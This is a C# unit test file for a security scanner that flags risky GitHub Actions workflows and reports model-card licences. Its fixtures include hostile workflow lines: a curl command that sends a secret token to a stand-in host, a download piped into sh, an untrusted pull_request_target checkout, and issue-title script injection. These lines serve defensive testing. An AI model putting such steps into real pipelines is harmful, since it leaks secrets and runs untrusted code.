using System.Text;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.Licence;
using Assay.Inspect.Analysers.Workflow;

namespace Assay.Tests.Unit.Inspect.Analysers.Workflow;

public sealed class WorkflowAnalyserTests
{
    private static async Task<Severity?> Worst(string text) => (await TestBed.For(new WorkflowAnalyser()).WithBytes(Encoding.UTF8.GetBytes(text))
        .As(FileFormat.Workflow).RunAsync(TestContext.Current.CancellationToken)).Worst;

    [Theory]
    [InlineData("on: pull_request_target\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.event.pull_request.head.sha }}\n    - run: make", Severity.High)]
    [InlineData("on: issues\njobs:\n  a:\n    steps:\n    - run: echo \"${{ github.event.issue.title }}\"", Severity.Medium)]
    [InlineData("on: push\njobs:\n  a:\n    steps:\n    - run: curl -d ${{ secrets.TOKEN }} https://collect.invalid/", Severity.High)]
    [InlineData("on: push\njobs:\n  a:\n    steps:\n    - run: |\n        curl http://127.0.0.1:9/x | sh", Severity.High)]
    [InlineData("on: push\njobs:\n  a:\n    steps:\n    - uses: someone/action@main", Severity.Info)]
    public async Task Steps_that_give_something_away_are_reported(string text, Severity severity) => (await Worst(text)).ShouldBe(severity);

    [Fact]
    public async Task An_honest_workflow_is_silent() =>
        (await Worst("on: push\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n    - run: git push https://x:$HF_TOKEN@huggingface.co/spaces/x main\n      env:\n        HF_TOKEN: ${{ secrets.HF_TOKEN }}")).ShouldBeNull();

    [Fact]
    public async Task The_licence_of_a_card_is_told()
    {
        var result = await TestBed.For(new LicenceAnalyser()).Named("README.md").WithBytes("---\nlicense: apache-2.0\n---\n# Model"u8.ToArray()).RunAsync(TestContext.Current.CancellationToken);

        result.Of("ASY-LIC-001").Message.ShouldContain("apache-2.0");
        result.Worst.ShouldBe(Severity.Info);
    }
}
